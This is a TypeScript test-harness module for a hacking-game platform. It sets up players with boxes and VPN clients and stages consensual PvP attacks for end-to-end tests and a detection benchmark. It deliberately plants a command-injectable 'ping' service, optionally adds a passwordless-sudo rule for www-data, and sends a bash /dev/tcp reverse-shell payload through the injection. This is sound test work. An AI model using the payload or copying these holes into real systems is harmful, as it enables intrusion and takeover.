import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { io as connect, type Socket } from 'socket.io-client';
import { createVerifiedAccount } from './accounts.ts';
import { until } from './until.ts';
import type { ClientNamespace, ShellListener } from './netns.ts';
import type { RunningPlatform } from './platform.ts';

/**
 * Players in the arena of a platform started as `make run` starts it, on the local runtime:
 * each with a verified account, a running box and a stock OpenVPN client on their own
 * "computer" (a network namespace). Used by the attack end-to-end tests and the detection
 * benchmark.
 */

export interface ArenaPlayer {
  handle: string;
  id: string;
  token: string;
  computer: ClientNamespace;
  box: { id: string; ip: string; password: string };
  vpnAddress: string;
}

export interface AttackEvent {
  type: string;
  createdAt: string;
  details: { message: string; user?: string; uid?: number; cwd?: string; peer?: string };
}

export interface CommandLog {
  timestamp: string;
  user: string;
  cwd: string;
  command: string;
}

export interface AttackRef {
  id: string;
  outcome: string;
}

export { until };

/** The port of the service a test plants in a box (`plantVulnerableService`). */
export const PLANTED_PORT = 8099;

export class Arena {
  /** The platform players talk to (replace it after a restart on the same PORT and DATA_DIR). */
  platform: RunningPlatform;
  readonly #files: string;
  readonly #listeners: ShellListener[] = [];
  /** Players' /grid connections (a challenge needs both on the Grid). */
  readonly #grids = new Map<string, Socket>();

  /** `files`: where the players' `.ovpn` files go. */
  constructor(platform: RunningPlatform, files: string) {
    this.platform = platform;
    this.#files = files;
  }

  async call<T>(
    token: string,
    method: string,
    url: string,
    body?: unknown,
  ): Promise<{ status: number; body: T }> {
    const res = await fetch(`${this.platform.url}/api/v1${url}`, {
      method,
      headers: {
        authorization: `Bearer ${token}`,
        ...(body === undefined ? {} : { 'content-type': 'application/json' }),
      },
      body: body === undefined ? undefined : JSON.stringify(body),
    });
    const text = await res.text();
    return { status: res.status, body: (text ? JSON.parse(text) : null) as T };
  }

  /** A verified player with a running box and a connected VPN client on `computer`. */
  async join(handle: string, computer: ClientNamespace): Promise<ArenaPlayer> {
    const account = await createVerifiedAccount(this.platform, {
      handle,
      email: `${handle}@example.test`,
      password: 'correct horse battery',
    });
    const token = account.accessToken;
    const created = await this.call<{ hostname: string }>(token, 'POST', '/boxes', {});
    if (created.status !== 201) throw new Error(`box not created: ${JSON.stringify(created.body)}`);
    // A runtime still starting (its VPN servers, the ingress) answers 503 for a moment: ask again.
    await until(
      `${handle}'s box powered on`,
      async () =>
        (await this.call(token, 'POST', `/boxes/${created.body.hostname}/power`, { on: true })).status < 300,
      60_000,
      500,
    );
    // RUNNING is booted; sshd listens a moment later.
    const box = await until(
      `${handle}'s box RUNNING with sshd listening`,
      async () => {
        const my = (
          await this.call<{
            id: string;
            ip: string;
            ssh_password: string;
            status: string;
            openPorts: Record<string, string>;
          }>(token, 'GET', '/boxes/my')
        ).body;
        return my.status === 'RUNNING' && my.openPorts['22'] ? my : null;
      },
      150_000,
    );
    const config = (await this.call<{ ovpn_config: string }>(token, 'GET', `/user-vpn/${account.id}/UDP`))
      .body;
    const file = path.join(this.#files, `${handle}.ovpn`);
    await writeFile(file, config.ovpn_config, { mode: 0o600 });
    await computer.connectVpn(file);
    return {
      handle,
      id: account.id,
      token,
      computer,
      box: { id: box.id, ip: box.ip, password: box.ssh_password },
      vpnAddress: await computer.tunAddress(),
    };
  }

  /**
   * The defender's mistake: a "ping" page that pastes its parameter into a shell, run by
   * systemd as www-data on PLANTED_PORT (and, with `sudo`, a rule that lets www-data do anything). A
   * port no catalogue entry uses, beside the box's own loadout.
   */
  async plantVulnerableService(defender: ArenaPlayer, options: { sudo?: boolean } = {}): Promise<void> {
    const service = `require('http').createServer((req, res) => {
      const host = new URL(req.url, 'http://box').searchParams.get('host') || '';
      require('child_process').spawn('sh', ['-c', 'ping -c 1 ' + host], { detached: true, stdio: 'ignore' }).unref();
      res.end('pinged\\n');
    }).listen(${PLANTED_PORT});`;
    await defender.computer.ssh(
      defender.box.ip,
      [
        'systemctl stop pingsvc 2>/dev/null; systemctl reset-failed pingsvc 2>/dev/null',
        'systemd-run --quiet --unit=pingsvc --uid=www-data -p WorkingDirectory=/tmp /usr/bin/node -e "$1"',
        options.sudo
          ? 'echo "www-data ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/ops && chmod 440 /etc/sudoers.d/ops'
          : 'true',
        // A box still installing its loadout on a busy host starts node slowly: up to a minute, then say why.
        `for i in $(seq 600); do (exec 3<>/dev/tcp/127.0.0.1/${PLANTED_PORT}) 2>/dev/null && exit 0; sleep 0.1; done`,
        'echo "port never opened" >&2; systemctl status pingsvc --no-pager >&2; journalctl -u pingsvc --no-pager -n 20 >&2; exit 1',
      ].join('\n'),
      { password: defender.box.password },
      [service],
    );
  }

  /** The attacker's exploit: a reverse shell from the target's box to a listener on their computer. */
  async reverseShell(attacker: ArenaPlayer, target: ArenaPlayer, port: number): Promise<ShellListener> {
    const listener = await attacker.computer.listenForShell(port);
    this.#listeners.push(listener);
    const payload = `;bash -c 'bash -i >& /dev/tcp/${attacker.vpnAddress}/${port} 0>&1'`;
    await attacker.computer.httpGet(
      `http://${target.box.ip}:${PLANTED_PORT}/?host=${encodeURIComponent(payload)}`,
    );
    await listener.connected;
    return listener;
  }

  /** The player's /grid connection, as the portal opens it (made once, kept until closeShells). */
  async #grid(player: ArenaPlayer): Promise<Socket> {
    const known = this.#grids.get(player.id);
    if (known?.connected) return known;
    known?.close();
    const socket = connect(`${this.platform.url}/grid`, {
      transports: ['websocket'],
      auth: { token: player.token },
      query: { userId: player.id },
      reconnection: false,
    });
    this.#grids.set(player.id, socket);
    await new Promise<void>((resolve, reject) => {
      socket.once('readyForState', () => resolve());
      socket.once('connect_error', reject);
    });
    return socket;
  }

  /**
   * An attack with the target's consent, as players make one on the Grid: the attacker
   * challenges (PVP), the target accepts.
   */
  async startAttack(attacker: ArenaPlayer, target: ArenaPlayer): Promise<AttackRef> {
    const [mine, theirs] = [await this.#grid(attacker), await this.#grid(target)];
    const incoming = new Promise<void>((resolve) => theirs.once('pvp:request:incoming', () => resolve()));
    const accepted = new Promise<{ attack: AttackRef }>((resolve) =>
      mine.once('pvp:request:accepted', (payload: { attack: AttackRef }) => resolve(payload)),
    );
    // A refusal reaches whoever made the call that failed: the challenge (attacker), the accept (target).
    const refused = new Promise<never>((_, reject) => {
      const fail = (e: { message: string }) => reject(new Error(`attack not started: ${e.message}`));
      mine.once('error', fail);
      theirs.once('error', fail);
    });
    const late = (what: string) =>
      new Promise<never>((_, reject) =>
        setTimeout(() => reject(new Error(`no ${what} within 10 s`)), 10_000),
      );
    mine.emit('pvp:request', { targetId: target.id });
    await Promise.race([incoming, refused, late('challenge')]);
    theirs.emit('pvp:accept', { requesterId: attacker.id });
    return (await Promise.race([accepted, refused, late('attack')])).attack;
  }

  async events(who: ArenaPlayer, attack: AttackRef): Promise<AttackEvent[]> {
    return (await this.call<AttackEvent[]>(who.token, 'GET', `/attack/${attack.id}/attack-logs`)).body;
  }

  async commands(who: ArenaPlayer, attack: AttackRef): Promise<CommandLog[]> {
    return (await this.call<CommandLog[]>(who.token, 'GET', `/attack/${attack.id}/logs`)).body;
  }

  /** The attack as the player's history shows it now. */
  async attack(who: ArenaPlayer, attack: AttackRef): Promise<AttackRef> {
    const history = (await this.call<AttackRef[]>(who.token, 'GET', '/attack/history/all?limit=100')).body;
    return history.find((a) => a.id === attack.id)!;
  }

  async mmr(who: ArenaPlayer): Promise<number> {
    return (await this.call<{ mmr: number }>(who.token, 'GET', '/users/me')).body.mmr;
  }

  closeShells(): void {
    for (const listener of this.#listeners) listener.close();
    for (const socket of this.#grids.values()) socket.close();
  }
}
